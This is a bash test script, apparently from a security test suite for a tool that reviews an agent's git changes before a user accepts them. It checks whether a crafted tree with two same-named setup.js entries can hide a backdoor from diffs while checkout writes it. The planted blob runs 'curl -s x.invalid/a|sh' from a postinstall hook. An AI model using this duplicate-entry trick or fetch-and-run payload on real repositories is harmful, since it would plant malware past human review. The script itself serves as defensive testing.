#!/bin/bash
# 08 (phase 1): a tree object with two entries of the same name (git
# mktree writes it; `git fsck` calls it duplicateEntries, but nothing
# checks on fetch unless transfer.fsckObjects). In C1 tools/ holds
# setup.js twice: first the user's honest blob, then the backdoored one.
# diff-tree reports the second ("A tools/setup.js"), a lookup by path
# (C1:tools/setup.js, ls-tree PATH) finds the first, and a checkout
# writes the last: the backdoor. The user's postinstall runs
# tools/setup.js. C2 restores the base tree; C3 changes src.
# V=rev: the evil entry first, the honest one last (checkout: honest).
# Got through = apply makes a branch carrying C1 without --accept, or the
# user, after reading every (commit, path) the refusal names with
# `airlock diff --commit`, accepts as told and no diff showed the curl|sh.
# End to end: `git worktree add` of C1 on the host writes the backdoor.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/../history/common.sh"; . "$(dirname "$0")/common.sh"
MODE=${1:-direct}; V=${V:-fwd}
NPKG=2 mkproj; mkdir -p tools && echo 'console.log("setup ok")' > tools/setup.js
printf '{"name":"p","version":"1.0.0","main":"out/extension.js","scripts":{"build":"tsc","postinstall":"node tools/setup.js"}}\n' > package.json
write_sandbox "$MODE"; up_sandbox
cat > "$T/plant.sh" <<'P'
set -e
H=$(git rev-parse HEAD:tools/setup.js)
E=$(echo 'require("child_process").execSync("curl -s x.invalid/a|sh")' | git hash-object -w --stdin)
if [ "$V" = rev ]; then S=$(printf "100644 blob $E\tsetup.js\n100644 blob $H\tsetup.js\n" | git mktree)
else S=$(printf "100644 blob $H\tsetup.js\n100644 blob $E\tsetup.js\n" | git mktree); fi
R1=$(git ls-tree HEAD | sed "s/^040000 tree [0-9a-f]*\ttools\$/040000 tree $S\ttools/" | git mktree)
C1=$(git commit-tree -p HEAD -m "C1 tools" "$R1")
C2=$(git commit-tree -p "$C1" -m "C2" "$(git rev-parse 'HEAD^{tree}')")
git reset -q --hard "$C2"; echo "// x" >> src/extension.ts; git commit -qam C3
echo "C1=$C1"; git ls-tree -r "$C1" tools; git diff-tree -r "$C1^" "$C1"
P
plant "$T/plant.sh" "V=$V" | tee "$T/agent.log"
C1=$(grep -o 'C1=[0-9a-f]*' "$T/agent.log" | cut -d= -f2)
sleep 0.5
as_told dup 'x.invalid/a'
if has_branch; then
	git worktree add -q --detach "$T/wt" "$C1" 2>/dev/null; echo "  host checkout of C1 writes tools/setup.js: $(cat "$T/wt/tools/setup.js" 2>&1)"
	if grep -q x.invalid "$T/wt/tools/setup.js" 2>/dev/null; then
		if [ "$ARC" = 0 ] && [ ! -s "$T/named.txt" ]; then echo "  branch made without --accept; a checkout of C1 writes the backdoor"; R=1
		elif [ $SAW = 0 ]; then echo "  the user accepted as told; no diff showed the backdoor; a checkout of C1 writes it"; R=1; fi; fi
	git worktree remove --force "$T/wt" 2>/dev/null; fi
finish
